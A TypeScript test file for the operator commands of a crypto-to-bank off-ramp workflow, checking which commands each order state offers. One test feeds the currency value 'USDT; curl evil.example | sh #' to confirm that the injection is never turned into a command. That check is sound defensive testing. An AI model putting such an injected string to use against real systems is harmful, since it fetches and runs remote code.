import { checkOfframpOrder } from '../../src/signals/offramp-order';
import { operatorCommandProblem, pendingCommand } from '../../src/signals/command-input';
import { foldFacts, type Fact } from '../../src/workflows/facts';
import { commandRefusal } from '../../src/workflows/operator-commands';
import { OrderState } from '../../src/workflows/order-state';
import { possibleCommands } from '../../src/workflows/possible-commands';
import { newOrder } from '../support/orders';

const now = Date.parse('2026-11-27T16:30:00.000Z');

function order(change: (state: OrderState) => void): OrderState {
  const checked = checkOfframpOrder({ ...newOrder(), reference: 'order-1' }, { enableMatic: true });
  if (!checked.ok) throw new Error('The order of the test is wrong.');
  const state = new OrderState(checked.order);
  change(state);
  return state;
}

const typed = (state: OrderState) => possibleCommands(state, now).map(({ name, options }) => `${name}${options}`);

const seenAt = '2026-11-27T15:00:00.000Z';
const deposit: Fact = {
  about: 'deposit',
  event: 'rejected',
  seen: { depositId: 'd-1', amount: '250.00', currency: 'USDT', evidence: 'webhook', seenAt },
};
const trade: Fact = {
  about: 'trade',
  event: 'settled',
  seen: {
    ...{ tradeId: 't-1', depositId: 'd-1', fromAmount: '250.00', fromCurrency: 'USDT' },
    ...{ toAmount: '229.80', toCurrency: 'EUR', evidence: 'webhook', seenAt },
  },
};
const failure = (code: string, fundsReturned: boolean): Fact => ({
  about: 'bank-transfer',
  event: 'reported',
  seen: { reportId: 'r-1', outcome: 'failed', attempt: 1, code, fundsReturned, evidence: 'bank-report', seenAt },
});

/** One transfer was sent, of which the facts tell. */
function transferred(state: OrderState, facts: readonly Fact[], graceEndsAt?: string): void {
  state.ids = { depositId: 'd-1', tradeId: 't-1' };
  state.facts = foldFacts(state.facts, [deposit, trade, ...facts]);
  const money = { tradeId: 't-1', depositId: 'd-1', amount: '229.80', currency: 'EUR' };
  const sent = { attempt: 1, progress: 'queued', submitAt: seenAt } as const;
  state.sentTransfers = [{ ...money, ...sent, ...(graceEndsAt && { graceEndsAt }) }];
}

const rejectedDeposit = order((state) => {
  state.ids = { depositId: 'd-1' };
  state.facts = foldFacts(state.facts, [deposit]);
  state.attention = { reason: 'deposit-rejected', since: seenAt };
});

describe('an order offers', () => {
  it.each<[string, OrderState, string[]]>([
    [
      'patience and an end while no deposit is known',
      order((state) => void (state.deadlineAt = Date.parse('2026-12-04T15:00:00.000Z'))),
      ['retryNow', 'extendDeadline --deadline "10 days"', 'cancelOfframp', 'closeOfframp --outcome abandoned'],
    ],
    [
      'no more patience where the longest is granted already',
      order((state) => void (state.deadlineAt = now + 365 * 86_400_000)),
      ['retryNow', 'cancelOfframp', 'closeOfframp --outcome abandoned'],
    ],
    [
      'the record of a refund first where the provider rejected the deposit',
      rejectedDeposit,
      [
        'recordRefund --amount 250 --currency USDT --transaction-id <id>',
        'retryNow',
        'recordDisposition --amount 250 --currency USDT --destination <where>',
      ],
    ],
    [
      'what can be said of a transfer that is under way',
      order((state) => transferred(state, [], '2026-12-01T23:00:00.000Z')),
      [
        'retryNow',
        'confirmBankTransfer --attempt 1',
        'confirmFundsReturned --attempt 1',
        'reportNotReceived --attempt 1 --code <code>',
      ],
    ],
    [
      'another account where the bank does not pay to this one',
      order((state) => {
        transferred(state, [failure('AC04', true)]);
        state.attention = { reason: 'bank-account-refused', since: seenAt };
      }),
      [
        'replaceBankAccount --account <file.json>',
        'confirmBankTransfer --attempt 2',
        'recordDisposition --amount 229.8 --currency EUR --destination <where>',
      ],
    ],
    [
      'the word that money is back where it is not known to be',
      order((state) => {
        transferred(state, [failure('AC04', false)]);
        state.attention = { reason: 'funds-not-returned', since: seenAt };
      }),
      [
        'confirmFundsReturned --attempt 1',
        'confirmBankTransfer --attempt 1',
        'replaceBankAccount --account <file.json>',
        'recordDisposition --amount 229.8 --currency EUR --destination <where>',
      ],
    ],
    [
      'to be closed as refunded once a refund is on record',
      order((state) => {
        state.ids = { depositId: 'd-1' };
        const seen = { recordId: 'refund:0xabc', kind: 'refund', amount: '250.00', currency: 'USDT' } as const;
        const record: Fact = { about: 'money', event: 'recorded', seen: { ...seen, evidence: 'operator', seenAt } };
        state.facts = foldFacts(state.facts, [deposit, record]);
        state.attention = { reason: 'deposit-rejected', since: seenAt };
      }),
      ['retryNow', 'closeOfframp --outcome refunded'],
    ],
  ])('%s', (_, state, commands) => {
    expect(typed(state)).toEqual(commands);
  });

  it('no command with what a stranger has named as a currency', () => {
    const state = order((fresh) => {
      fresh.ids = { depositId: 'd-1' };
      const seen = { depositId: 'd-1', amount: '250.00', currency: 'USDT; curl evil.example | sh #' };
      fresh.facts = foldFacts(fresh.facts, [
        { about: 'deposit', event: 'rejected', seen: { ...seen, evidence: 'webhook', seenAt } },
      ]);
      fresh.attention = { reason: 'deposit-rejected', since: seenAt };
    });
    expect(typed(state)).toEqual(['retryNow']);
  });

  it('nothing that it would refuse once its blanks are filled in', () => {
    const filled: Record<string, unknown> = { amount: '1', transactionId: '0xabc', destination: 'a', code: 'AC04' };
    const bankAccount = { bankAccountId: 'b-2', currency: 'EUR' };
    for (const state of [rejectedDeposit, order((fresh) => transferred(fresh, [failure('AC04', true)]))]) {
      for (const { name, fields } of possibleCommands(state, now)) {
        const given = Object.fromEntries(
          Object.entries({ ...fields, operator: 'Kim', reason: 'so' }).map(([field, value]) => [
            field,
            typeof value === 'string' && value.startsWith('<') ? filled[field] : value,
          ]),
        );
        const update = 'bankAccount' in given ? { ...given, bankAccount } : given;
        expect([name, operatorCommandProblem(name, update)]).toEqual([name, undefined]);
        expect([name, commandRefusal(pendingCommand(name, update, seenAt), state, now)]).toEqual([name, undefined]);
      }
    }
  });
});
